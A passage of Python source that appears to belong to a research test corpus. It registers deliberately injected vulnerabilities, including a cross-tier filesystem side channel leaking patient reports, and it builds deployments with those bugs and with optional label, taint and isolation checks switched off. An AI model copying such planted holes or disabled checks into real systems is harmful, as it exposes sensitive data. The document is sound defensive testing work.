            ),
            patch=_patch_bulletin,
            patch_after_pipeline=True,
            attack=_attack_bulletin,
            leak_oracle=_oracle_names("3"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="export_feed",
            title="Cross-Tier Side-Channel Export",
            tier="multi",
            cve_examples=("CVE-2014-6271", "CVE-2019-5736"),
            description=(
                "A jailed event unit spools patient reports to a file and "
                "a public portal route serves that file: the labels are "
                "laundered through the filesystem, so the isolation jail "
                "(not the response check) is the layer that must deny the "
                "write."
            ),
            patch=_patch_export_feed,
            patch_after_pipeline=True,
            unprotected={"isolation": False},
            attack=_attack_export_feed,
            leak_oracle=_oracle_names("1", "2", "3", "4"),
            expected_audit=("engine", "callback"),
        ),
    )
}


def build_vulnerable_deployment(
    name: str,
    check_labels: bool = True,
    run_pipeline: bool = True,
    **deployment_kwargs,
) -> VulnerableDeployment:
    """A deployment with one corpus bug injected.

    ``check_labels=False`` builds the *unprotected* variant used to show
    the injection genuinely discloses data: the response-time label and
    taint checks go off, plus whatever tier-specific safety net the
    entry's ``unprotected`` mapping names (explicit keyword arguments
    win over both). Additional keyword arguments (``workload``,
    ``shards``, ``cached_auth``, ``page_cache``, ``data_dir``, …) reach
    :class:`~repro.mdt.deployment.MdtDeployment` unchanged, so the corpus
    runs across the whole deployment matrix.
    """
    vulnerability = VULNERABILITIES[name]
    kwargs = dict(deployment_kwargs)
    if not check_labels:
        kwargs.setdefault("check_taint", False)
        for key, value in vulnerability.unprotected.items():
            kwargs.setdefault(key, value)
    deployment = VulnerableDeployment(check_labels=check_labels, **kwargs)
    if vulnerability.patch is not None and not vulnerability.patch_after_pipeline:
        vulnerability.patch(deployment)
    if run_pipeline:
        deployment.run_pipeline()
        if vulnerability.patch is not None and vulnerability.patch_after_pipeline:
            vulnerability.patch(deployment)
    return deployment
